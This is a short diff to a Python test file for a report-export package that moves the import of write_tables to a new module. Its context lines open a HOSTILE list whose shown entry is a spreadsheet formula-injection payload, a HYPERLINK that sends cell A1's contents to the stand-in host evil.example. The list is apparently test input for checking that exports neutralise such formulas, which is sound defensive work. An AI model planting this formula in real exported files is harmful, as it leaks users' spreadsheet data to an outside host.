@@ -14,7 +14,8 @@ import openpyxl
 import pytest
 from nbformat.v4 import new_code_cell, new_notebook, new_output
 
-from atribu_pandas.reports.export import TABLE_MIME, write_tables
+from atribu_pandas.reports.export import TABLE_MIME
+from atribu_pandas.reports.tables import write_tables
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
